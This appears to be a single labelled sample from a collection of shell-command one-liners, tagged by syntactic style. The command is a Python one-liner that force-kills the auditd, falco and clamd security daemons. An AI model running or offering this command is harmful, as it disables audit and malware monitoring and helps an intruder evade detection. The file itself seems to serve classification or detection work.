# class: embedded, python -c with several statements; style: one-liner
python3 -c 'import os; [os.kill(int(p), 9) for p in os.listdir("/proc") if p.isdigit() and open(f"/proc/{p}/comm").read().strip() in ("auditd","falco","clamd")]'
